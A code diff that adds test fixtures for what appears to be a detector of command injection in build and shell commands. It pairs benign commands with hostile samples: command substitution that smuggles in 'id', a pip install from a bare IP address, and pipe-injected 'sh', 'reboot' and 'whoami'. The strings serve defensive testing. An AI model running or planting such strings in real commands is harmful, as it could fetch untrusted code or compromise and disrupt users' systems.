@@ -22,6 +22,42 @@ interface Pair {
 
 const pairs: readonly Pair[] = [
   {
+    decision:
+      'what a build is told of its machine, folder and user, and a variable of make’s, is asked by nobody else',
+    honest: [
+      'docker run --rm -v "$(pwd):/src" --user "$(id -u):$(id -g)" x/y',
+      'make -s -j $(nproc)',
+      "x: y\n\t$(SED) -e 's/a/b/' < $<",
+    ],
+    hostile: ['$(id -u)', '$(pwd)', '$(nproc;id)', '$(WHOAMI)', 'x$(id -u):$(id)', '$(id -g)'],
+  },
+  {
+    decision:
+      'a module that builds and installs by name is a step, and what is fetched by an address is none',
+    honest: [
+      'python3 -m pip install --upgrade pip',
+      "python -m pip install 'requests[security]>=2,<3'",
+      'python3 -m venv .venv',
+      'python -m build --sdist',
+    ],
+    hostile: [
+      'python3 -m http.server 8000',
+      'python3 -m pip install http://203.0.113.9/x.whl',
+      'python -m pip install ../x',
+      'python3 -m pip install /tmp/x',
+      "python -c 'import os'",
+    ],
+  },
+  {
+    decision: 'types of texts are joined by pipes',
+    honest: [
+      "Values: `'hex' | 'base64' | 'buffer'`",
+      ':type: ``"total" | "call"``',
+      "report ('total' | 'call'):",
+    ],
+    hostile: ["'x' | 'id'", "x' | 'call' '/tmp/x.cmd", "'x' | 'reboot'", "'x' | 'sh'", "x | 'whoami'"],
+  },
+  {
     decision: 'a path of what only looks around is no setting, and a line of its own tells it',
     honest: [
       '/usr/bin/git',
